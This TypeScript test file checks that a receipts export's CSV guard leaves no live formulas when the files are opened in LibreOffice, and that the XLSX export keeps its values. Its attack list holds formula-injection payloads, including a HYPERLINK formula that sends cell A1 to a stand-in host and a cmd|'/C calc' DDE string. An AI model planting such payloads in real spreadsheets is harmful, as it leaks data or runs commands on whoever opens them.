import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { BYTE_ORDER_MARK, csvLine, guardFormula } from '../../../src/main/export/csv/cells.ts'
import { FORMULA_SIGNS, PASSED_OVER } from '../../support/books/formulas.ts'
import { noLibreOffice, openInLibreOffice } from '../../support/books/libre-office.ts'
import { tempFolder } from '../../support/books/open-book.ts'
import { isAmount, writeReceiptsCsv, writeReceiptsXlsx } from '../../support/books/receipts-file.ts'
import { richBook } from '../../support/books/rich-book.ts'

if (noLibreOffice !== null) console.warn(`Not opened in a real spreadsheet: ${noLibreOffice}.`)

const SPLITS = {
  comma: '44,34,76,1,,1033,false,true',
  'semicolon, French': '59,34,76,1,,1036,false,true',
  tab: '9,34,76,1,,1031,false,true',
} as const

/** Texts that a spreadsheet would run, each with the ways by which it may come to stand at the beginning of a cell. */
const ATTACKS = [...FORMULA_SIGNS].flatMap((sign) => {
  const formula = `${sign}HYPERLINK("http://x.test/?"&A1,"open")`
  return [
    formula,
    `${sign}1+1`,
    `${sign}SUM(A1:A2)`,
    `${sign}cmd|'/C calc'!A0`,
    ...PASSED_OVER.map((passed) => `${passed}${sign}1+1`),
    ...[';', '\t', '\n', '\r', ';"', ';;', '\n '].map((split) => `a${split}${sign}1+1`),
    `a;"${sign}1+1&"`,
  ]
})

test.skipIf(noLibreOffice !== null).each(Object.entries(SPLITS))(
  'opened in LibreOffice by %s, no guarded text is a formula',
  { timeout: 60_000 },
  (_name, filter) => {
    const folder = tempFolder()
    const [open, guarded] = [join(folder, 'open.csv'), join(folder, 'guarded.csv')]
    const written = (guard: (text: string) => string) =>
      BYTE_ORDER_MARK + ATTACKS.map((text) => csvLine(['CF-000001', guard(text), 'end'])).join('')
    writeFileSync(
      open,
      written((text) => text),
    )
    writeFileSync(guarded, written(guardFormula))
    const read = openInLibreOffice([open, guarded], filter)
    const formulas = (name: string) => (read.get(name) ?? []).flat().filter((cell) => cell.formula)
    // Without the guard the same file is full of them, so that this test can see one.
    expect(formulas('open').length).toBeGreaterThan(0)
    expect(read.get('guarded')?.length).toBeGreaterThanOrEqual(ATTACKS.length)
    expect(formulas('guarded')).toEqual([])
  },
)

test.skipIf(noLibreOffice !== null)(
  'opened in LibreOffice, the Excel file has no formula, numbers that are numbers, dates that are dates, and the values of the CSV',
  { timeout: 60_000 },
  async () => {
    const book = await richBook()
    const folder = tempFolder()
    const job = {
      bookPath: book.path,
      known: book.ledger.book(),
      zone: 'America/New_York',
      sheetName: 'Receipts',
    }
    const ports = { cancelled: () => false, progress: () => undefined }
    const [csv, xlsx] = [join(folder, 'receipts.csv'), join(folder, 'receipts.xlsx')]
    writeReceiptsCsv({ ...job, targetPath: csv, partPath: `${csv}.part` }, ports)
    writeReceiptsXlsx({ ...job, targetPath: xlsx, partPath: `${xlsx}.part` }, ports)
    const rows: string[][] = parse(readFileSync(csv), { bom: true, record_delimiter: '\r\n' })
    const [names = [], ...records] = rows
    const [header = [], ...cells] = openInLibreOffice([xlsx]).get('receipts') ?? []
    expect(header.map((cell) => cell.shown)).toEqual(names)
    expect(cells).toHaveLength(records.length)
    for (const [row, record] of records.entries()) {
      for (const [column, value] of record.entries()) {
        const name = names[column] ?? ''
        const cell = cells[row]?.[column] ?? { formula: false, type: '', shown: '', value: '' }
        const of = `${name} of row ${row + 2}`
        expect(cell.formula, of).toBe(false)
        if (value === '') expect(cell.shown, of).toBe('')
        else if (isAmount(name)) expectAmount(cell, value, of)
        else if (name === 'business_day') expect([cell.type, cell.shown], of).toEqual(['date', value])
        else if (name.includes('_at')) {
          expect([cell.type, cell.shown], of).toEqual(['date', value.slice(0, 19).replace('T', ' ')])
        } else expect(guardFormula(cell.shown.replaceAll('\n', '')), of).toBe(value.replaceAll(/[\r\n]/g, ''))
      }
    }
  },
)

function expectAmount(cell: { type: string; shown: string; value: string }, value: string, of: string): void {
  const digits = value.replace(/(\.\d\d\d*?)0+$/, '$1').replace('.', '')
  expect(cell.type, of).toBe(digits.length > 15 ? 'string' : 'float')
  if (cell.type === 'float') expect(Number(cell.value), of).toBe(Number(value))
  else expect(cell.shown, of).toBe(value)
}
